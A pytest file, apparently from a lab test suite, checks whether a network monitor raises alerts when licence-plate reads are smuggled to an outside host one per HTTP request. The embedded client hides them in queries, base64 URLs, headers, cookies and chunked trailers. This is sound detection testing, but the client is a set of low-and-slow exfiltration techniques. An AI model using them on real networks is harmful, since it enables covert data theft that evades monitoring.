# SPDX-License-Identifier: Apache-2.0
"""Plate reads in the heads of HTTP, one in each of many requests: queries, fields, trailers, base64 in URLs. Each case goes to a stranger of its own;
its twin sends as many requests of the same form with nothing in them."""
import itertools
import random
import time

import lab as net
import material
import pytest

PORT = 8098
NUMBERS = itertools.count(3000)

CLIENT = '''
import base64, http.client, json, sys
to, how, connections = sys.argv[1:4]
c = None
for line in sys.stdin:
    value, lane, time = line.split()
    name = 'page' if value.startswith('page') else 'plate'
    if c is None or connections == 'many':
        c = http.client.HTTPConnection(to)
    path, fields, body = '/api/v1/seen', {}, None
    if how == 'query':
        path += f'?id={value}&lane={lane}&time={time}'
    elif how == 'named query':
        path += f'?{name}={value}&lane={lane}'
    elif how == 'escaped query':
        path += f'?q=%22{value}%22%2C%22{time}%22'
    elif how == 'base64':
        path += '?d=' + base64.urlsafe_b64encode(json.dumps({name: value, 'lane': int(lane), 'time': time}).encode()).decode().rstrip('=')
    elif how == 'field':
        fields = {'X-Vehicle': f'{value};{time}'}
    elif how == 'cookie':
        fields = {'Cookie': f'session=1; last={value}; at={time}'}
    if how == 'trailer':
        c.putrequest('POST', path)
        c.putheader('Transfer-Encoding', 'chunked')
        c.endheaders(b'2\\r\\nhi\\r\\n0\\r\\nX-Vehicle: %s %s\\r\\n\\r\\n' % (f'"{value}",'.encode(), time.encode()))
    else:
        c.request('GET', path, headers=fields)
    c.getresponse().read()
'''


@pytest.fixture(scope='module')
def store(lab):
    process = lab.start('outside', '/usr/bin/python3', f'{net.HERE}/upload_store.py', str(PORT))
    lab.wait_port('outside', '', PORT)
    yield
    lab.stop(process)


def reads(seed, honest, n):
    g = random.Random(seed)
    for i in range(n):
        value = f'page{i}' if honest else material.plate(g)
        yield f'{value} {g.randrange(1, 9)} 2026-05-31T04:{i // 60 % 60:02d}:{i % 60:02d}Z\n'


def is_told(watch, stranger):
    return [a for a in watch.alerts() if a['destination']['ip'] == stranger and 'plate-record' in a['gantry'].get('classes', [])]


@pytest.mark.parametrize('connections', ['one', 'many'])
@pytest.mark.parametrize('how', ['query', 'named query', 'escaped query', 'base64', 'field', 'cookie', 'trailer'])
def test_reads_one_by_one_in(lab, store, watch, how, connections):
    for honest in True, False:
        stranger = net.stranger(next(NUMBERS))
        lab.run('lane', '/usr/bin/python3', '-c', CLIENT, f'{stranger}:{PORT}', how, connections, input=''.join(reads(stranger, honest, 60)))
        if honest:
            time.sleep(0.3)
            assert not is_told(watch, stranger)
        else:
            net.wait_for(lambda: is_told(watch, stranger), 10, 'the alert')
            told = is_told(watch, stranger)[0]
            assert material.plate(random.Random(stranger)) not in str(told)


def test_what_is_gathered_is_no_transfer_by_itself(lab, store, watch):
    stranger = net.stranger(next(NUMBERS))
    lab.run('lane', '/usr/bin/python3', '-c', CLIENT, f'{stranger}:{PORT}', 'query', 'one', input=''.join(reads(stranger, False, 2)))
    time.sleep(1)
    assert not [t for t in watch.transfers() if t['destination']['ip'] == stranger]
